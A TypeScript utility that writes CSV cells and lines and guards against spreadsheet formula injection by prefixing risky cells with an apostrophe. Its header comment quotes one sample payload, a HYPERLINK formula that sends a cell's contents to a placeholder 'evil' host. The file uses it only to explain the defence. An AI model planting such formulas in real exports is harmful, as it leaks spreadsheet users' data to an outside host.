/**
 * CSV as spreadsheets read it (RFC 4180: comma-separated, CRLF line ends, a field with a comma, quote or line
 * break in double quotes, quotes doubled), with formula injection guarded: a spreadsheet runs a cell that
 * starts with `=`, `+`, `-` or `@` as a formula (and a leading tab or carriage return can hide such a
 * start), so a visitor's question like `=HYPERLINK("http://evil/?"&A1)` would run on the site owner's
 * machine. Such text cells get a leading `'` (OWASP's "CSV Injection" advice), which spreadsheets show as
 * text. Numbers are written as numbers: `-1` (👎) is a rating, not a formula.
 */

/** Cells a spreadsheet would evaluate, unless guarded. */
const FORMULA_START = /^[=+\-@\t\r]/;

export type CsvValue = string | number | boolean | null | undefined;

export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) || text !== text.trim() ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvLine(values: readonly CsvValue[]): string {
  return `${values.map(csvCell).join(',')}\r\n`;
}

/**
 * A UTF-8 byte order mark: Excel opens a CSV file as UTF-8 only when it starts with one (without it, every
 * non-ASCII question is mojibake); other readers skip it.
 */
export const UTF8_BOM = '\uFEFF';
